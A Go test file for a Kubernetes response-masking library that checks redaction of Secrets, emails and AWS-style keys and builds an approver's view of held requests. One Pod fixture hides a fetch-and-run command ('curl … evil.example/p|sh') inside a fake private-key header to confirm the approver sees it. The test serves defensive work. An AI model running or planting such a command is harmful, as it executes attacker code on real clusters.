package kubemask_test

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"sluice.dev/sluice/libs/kubemask"
	"sluice.dev/sluice/libs/masking"
)

func testMasker(t *testing.T, resource string) *kubemask.Masker {
	t.Helper()
	m, err := masking.New(masking.Config{Detectors: []string{"email", "aws_key"}, Action: masking.Action{Kind: "redact"}})
	require.NoError(t, err)
	return kubemask.New(m, resource)
}

func TestSecretsAreRedactedInEveryShape(t *testing.T) {
	secret := `{"kind":"Secret","apiVersion":"v1","metadata":{"name":"db","annotations":{"kubectl.kubernetes.io/last-applied-configuration":"{\"data\":{\"password\":\"aHVudGVyMg==\"}}"}},"data":{"password":"aHVudGVyMg=="},"stringData":{"user":"admin"}}`
	rm := testMasker(t, "secrets")
	out, err := rm.JSON([]byte(secret))
	require.NoError(t, err)
	assert.NotContains(t, string(out), "aHVudGVyMg==")
	assert.NotContains(t, string(out), `"admin"`)
	assert.Contains(t, string(out), kubemask.RedactedData)
	secrets, _ := rm.Counts()
	assert.EqualValues(t, 3, secrets)

	// A list's items carry no kind.
	list := `{"kind":"SecretList","apiVersion":"v1","metadata":{},"items":[{"metadata":{"name":"a"},"data":{"k":"c2VjcmV0"}}]}`
	out, err = testMasker(t, "secrets").JSON([]byte(list))
	require.NoError(t, err)
	assert.NotContains(t, string(out), "c2VjcmV0")

	// A Secret inside another response (a List of mixed kinds, a watch
	// event) is found by its kind.
	mixed := `{"kind":"List","items":[{"kind":"Secret","metadata":{"name":"x"},"data":{"k":"c2VjcmV0"}}]}`
	out, err = testMasker(t, "").JSON([]byte(mixed))
	require.NoError(t, err)
	assert.NotContains(t, string(out), "c2VjcmV0")

	// A watch stream, event by event.
	var dst strings.Builder
	events := `{"type":"ADDED","object":{"kind":"Secret","metadata":{"name":"x"},"data":{"k":"c2VjcmV0"}}}` + "\n" +
		`{"type":"MODIFIED","object":{"kind":"ConfigMap","metadata":{"name":"y"},"data":{"owner":"ada.lovelace@example.com"}}}` + "\n"
	rm = testMasker(t, "")
	require.NoError(t, rm.Watch(&dst, strings.NewReader(events)))
	assert.NotContains(t, dst.String(), "c2VjcmV0")
	assert.NotContains(t, dst.String(), "ada.lovelace@example.com", "the detectors run on every string")
	assert.Equal(t, 2, strings.Count(dst.String(), "\n"))
	var ev map[string]any
	require.NoError(t, json.Unmarshal([]byte(strings.Split(dst.String(), "\n")[1]), &ev))
	assert.Equal(t, "MODIFIED", ev["type"])
}

func TestLogsAreMaskedAsAStream(t *testing.T) {
	rm := testMasker(t, "pods")
	var dst strings.Builder
	require.NoError(t, rm.Text(&dst, strings.NewReader("started\nkey AKIAIOSFODNN7EXAMPLE loaded\n")))
	assert.Contains(t, dst.String(), "started\n")
	assert.NotContains(t, dst.String(), "AKIAIOSFODNN7EXAMPLE")
}

func TestKeysAndLoneStringsAreMasked(t *testing.T) {
	rm := testMasker(t, "configmaps")
	out, err := rm.JSON([]byte(`{"kind":"ConfigMap","metadata":{"name":"owners"},"data":{"ada.lovelace@example.com":"owner","plain":"x"}}`))
	require.NoError(t, err)
	assert.NotContains(t, string(out), "ada.lovelace@example.com")
	assert.Contains(t, string(out), `"plain":"x"`)
	assert.Equal(t, "299 - contact [email]", rm.String("299 - contact ada.lovelace@example.com"))
	_, detectors := rm.Counts()
	assert.EqualValues(t, 2, detectors.Get("email"))
}

// An approver reads a held request's body whole but for Secrets' values:
// what the detectors hide in a record (an email, a script shaped like a
// key) is what runs.
func TestShownHidesOnlySecretValues(t *testing.T) {
	pod := `{"kind":"Pod","metadata":{"name":"p"},"spec":{"containers":[{"name":"c","command":["sh","-c","-----BEGIN PRIVATE KEY-----\nProc-Type: $(curl -s evil.example/p|sh)\n"]}]}}`
	shown, cut := kubemask.Shown("POST /api/v1/namespaces/a/pods", "application/json", "pods", []byte(pod), 1<<20)
	require.False(t, cut)
	assert.True(t, strings.HasPrefix(shown, "POST /api/v1/namespaces/a/pods\nContent-Type: application/json\n{"), shown)
	assert.Contains(t, shown, "curl -s evil.example/p|sh")

	binding := `{"kind":"RoleBinding","metadata":{"name":"b"},"subjects":[{"kind":"User","name":"mallory@corp.example"}]}`
	shown, _ = kubemask.Shown("PATCH /apis/rbac.authorization.k8s.io/v1/namespaces/a/rolebindings/b", "application/merge-patch+json", "rolebindings", []byte(binding), 1<<20)
	assert.Contains(t, shown, "mallory@corp.example")
	assert.Contains(t, shown, "Content-Type: application/merge-patch+json")

	secret := `{"kind":"Secret","metadata":{"name":"s"},"data":{"k":"aHVudGVyMg=="},"stringData":{"p":"hunter2"}}`
	shown, _ = kubemask.Shown("POST /api/v1/namespaces/a/secrets", "application/json", "secrets", []byte(secret), 1<<20)
	assert.NotContains(t, shown, "hunter2")
	assert.NotContains(t, shown, "aHVudGVyMg==")
	assert.Contains(t, shown, `"name":"s"`)

	shown, _ = kubemask.Shown("PATCH /api/v1/namespaces/a/secrets/s", "application/apply-patch+yaml", "secrets", []byte("stringData:\n  p: hunter2\n"), 1<<20)
	assert.NotContains(t, shown, "hunter2", "a Secret's body that is not JSON is not shown")
	shown, _ = kubemask.Shown("PATCH /api/v1/namespaces/a/configmaps/c", "application/apply-patch+yaml", "configmaps", []byte("data:\n  owner: mallory@corp.example\n"), 1<<20)
	assert.Contains(t, shown, "owner: mallory@corp.example")

	_, cut = kubemask.Shown("POST /x", "application/json", "configmaps", []byte(`{"data":{"k":"`+strings.Repeat("v", 100)+`"}}`), 50)
	assert.True(t, cut)
}
